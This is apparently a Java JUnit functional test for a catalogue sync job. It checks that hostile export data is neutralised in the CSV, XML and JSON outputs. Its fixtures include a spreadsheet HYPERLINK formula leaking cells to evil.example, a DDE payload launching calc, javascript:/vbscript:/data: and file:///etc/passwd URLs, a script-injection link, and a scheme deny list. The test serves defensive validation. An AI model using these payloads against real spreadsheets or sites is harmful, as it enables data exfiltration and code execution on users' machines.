package de.catalogsync.job;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import javax.xml.XMLConstants;
import javax.xml.parsers.DocumentBuilderFactory;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Document;
import org.w3c.dom.NodeList;

import com.opencsv.CSVReader;
import com.opencsv.CSVReaderBuilder;
import com.opencsv.RFC4180ParserBuilder;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import de.catalogsync.testing.SyncFixture;

/**
 * What a hostile export puts into its texts and links never acts on a consumer: spreadsheet formulas are
 * neutralised in every CSV, XML and JSON escape markup, control characters never reach a file, and only http(s)
 * links are published.
 */
class OutputSafetyFunctionalTest {

    static final String FORMULA_NAME = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klick\")";
    static final String MARKUP_NAME = "Fisch & \"Chips\" <b>fett</b> ]]> 'x' \\ </script>";
    static final String DDE_ID = "=cmd|' /C calc'!A0";
    static final List<String> BAD_URLS = List.of("javascript:alert(1)", "file:///etc/passwd", "ftp://ftp.example.org/x",
            "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/scheme-relative", "JaVaScRiPt:alert(2)",
            "https://ok.example/\"><script>alert(3)</script>", "vbscript:msgbox(4)", "https://", "javascript:alert(5)");

    @TempDir
    Path dir;

    private SyncFixture fixture;
    private SyncFixture.Result result;

    private static String csv(String... cells) {
        List<String> quoted = new ArrayList<>();
        for (String c : cells) {
            quoted.add("\"" + c.replace("\"", "\"\"") + "\"");
        }
        return String.join(",", quoted) + "\n";
    }

    @BeforeEach
    void syncHostileTexts() throws Exception {
        StringBuilder th = new StringBuilder("id,leika,titel,beschreibung,typ,ozg_id,reifegrad,online_url,behoerde,ars,"
                + "gueltig_von,gueltig_bis,stand\n");
        th.append(csv("TH-1", "99012001001000", FORMULA_NAME, "+kurz", "4", "10513", "RG1", "https://www.jena.de/a?b=1&c=2",
                "@Stadt Jena", "160530000000", "", "", ""));
        th.append(csv("-TH-2", "99046029000000", MARKUP_NAME, "-1+2", "2/3", "10569", "RG4", "", "Amtsgericht Erfurt",
                "", "", "", ""));
        th.append(csv("TH-3", "99050012104000", "Gewerbe\u0007anmeldung", "", "4", "", "", "", "", "", "", "", ""));
        th.append(csv("TH-4", "99050012104000", "Gewerbeanmeldung", "Zeile\u001Bzwei", "4", "", "", "", "", "160510000000",
                "", "", ""));
        // the classic DDE payload, unquoted, so that the raw row in the reject file starts with it
        th.append(DDE_ID + ",99001001000000,Leistung 0,,4,,,javascript:alert(1),,,,,\n");
        for (int i = 1; i < BAD_URLS.size(); i++) {
            th.append(csv("TH-U" + i, String.format("99001001%03d000", i), "Leistung " + i, "", "4", "", "",
                    BAD_URLS.get(i), "", "", "", "", ""));
        }
        Path thFile = Files.writeString(dir.resolve("th.csv"), th.toString(), StandardCharsets.UTF_8);
        String by = Files.readString(Path.of("src/test/resources/fixtures/mini/by.xml"), StandardCharsets.UTF_8)
                .replace("https://online.nuernberg.de/abbruch", "javascript:alert(6)");
        Path byFile = Files.writeString(dir.resolve("by.xml"), by, StandardCharsets.UTF_8);
        fixture = SyncFixture.mini(dir).yaml("catalog:\n  max-reject-share: 1.0").location("TH", thFile)
                .location("BY", byFile);
        result = fixture.sync();
        assertThat(result.exitCode()).as("published, with the hostile rows rejected: " + result).isEqualTo(3);
        assertThat(result.out()).doesNotContain("FAILED");
    }

    private List<String[]> readCsv(String name) throws IOException {
        try (CSVReader csv = new CSVReaderBuilder(Files.newBufferedReader(fixture.outputDir().resolve(name),
                StandardCharsets.UTF_8)).withCSVParser(new RFC4180ParserBuilder().build()).build()) {
            return csv.readAll();
        } catch (com.opencsv.exceptions.CsvException e) {
            throw new IOException(e);
        }
    }

    private static void assertNoCellRunsAsFormula(List<String[]> rows, String file) {
        for (String[] row : rows) {
            for (String cell : row) {
                assertThat(cell).as(file + " cell of " + String.join("|", row))
                        .doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                        .doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void formulaCellsAreNeutralisedInTheMergedCatalogueCsv() throws Exception {
        List<String[]> rows = readCsv("merged-catalogue.csv");

        assertNoCellRunsAsFormula(rows, "merged-catalogue.csv");
        List<String> cells = rows.stream().flatMap(r -> List.of(r).stream()).toList();
        assertThat(cells).contains("'" + FORMULA_NAME, "'+kurz", "'@Stadt Jena", "'-TH-2", "'-1+2");
    }

    @Test
    void formulaCellsAreNeutralisedInTheRejectsCsv() throws Exception {
        List<String[]> rows = readCsv("rejects/TH.csv");

        assertNoCellRunsAsFormula(rows, "rejects/TH.csv");
        assertThat(rows).anySatisfy(row -> assertThat(row[5]).startsWith("'" + DDE_ID + ","));
    }

    @Test
    void xmlEscapesMarkupAndStaysWellFormed() throws Exception {
        Path xml = fixture.outputDir().resolve("merged-catalogue.xml");
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature(XMLConstants.FEATURE_SECURE_PROCESSING, true);
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        factory.setNamespaceAware(true);
        Document doc = factory.newDocumentBuilder().parse(xml.toFile());

        NodeList names = doc.getElementsByTagNameNS("urn:de:catalog-sync:katalog:1", "bezeichnung");
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < names.getLength(); i++) {
            texts.add(names.item(i).getTextContent());
        }
        assertThat(texts).contains(MARKUP_NAME, FORMULA_NAME);
        assertThat(Files.readString(xml, StandardCharsets.UTF_8)).doesNotContain("<b>").doesNotContain("</script>");
    }

    @Test
    void jsonEscapesEverythingAndRoundTrips() throws Exception {
        String json = Files.readString(fixture.outputDir().resolve("merged-catalogue.json"), StandardCharsets.UTF_8);
        JsonNode root = JsonMapper.builder().build().readTree(json);

        assertThat(root.findValuesAsString("bezeichnung")).contains(MARKUP_NAME, FORMULA_NAME);
        assertThat(root.findValuesAsString("sourceId")).contains("-TH-2");
    }

    @Test
    void controlCharactersNeverReachAnOutputButAreRejectedAsText() throws Exception {
        for (String name : List.of("merged-catalogue.xml", "merged-catalogue.json", "merged-catalogue.csv",
                "changes/0000000001.json", "rejects/TH.csv")) {
            String content = Files.readString(fixture.outputDir().resolve(name), StandardCharsets.UTF_8);
            assertThat(content.chars().filter(c -> c < 0x20 && c != '\n' && c != '\r' && c != '\t').count())
                    .as(name).isZero();
        }
        List<String> textRejects = fixture.query(jdbc -> jdbc.queryForList(
                "select cast(source_line as varchar(9)) || ' ' || message from reject where state = 'TH' and reason = 'TEXT' order by seq",
                String.class));
        assertThat(textRejects).containsExactly("4 text contains the control character U+0007 at position 8",
                "5 text contains the control character U+001B at position 6");
        assertThat(readCsv("rejects/TH.csv")).anySatisfy(row -> assertThat(row[5]).contains("Gewerbe\u2407anmeldung"));
    }

    @Test
    void noLinkOtherThanHttpOrHttpsReachesAnyPublishedFile() throws Exception {
        for (String name : List.of("merged-catalogue.xml", "merged-catalogue.json", "merged-catalogue.csv",
                "changes/0000000001.json")) {
            String content = Files.readString(fixture.outputDir().resolve(name), StandardCharsets.UTF_8).toLowerCase();
            for (String bad : List.of("javascript:", "file:", "ftp:", "data:", "vbscript:", "//evil.example/scheme",
                    "<script>", "https://\"")) {
                assertThat(content).as(name).doesNotContain(bad);
            }
        }
        List<String> urls = fixture.offerings().stream().map(o -> o.onlinedienstUrl()).filter(u -> u != null)
                .toList();
        assertThat(urls).isNotEmpty().allMatch(u -> u.startsWith("https://") || u.startsWith("http://"));
        assertThat(fixture.count("select count(*) from reject where reason = 'URL'")).isEqualTo(BAD_URLS.size() + 1);
    }
}
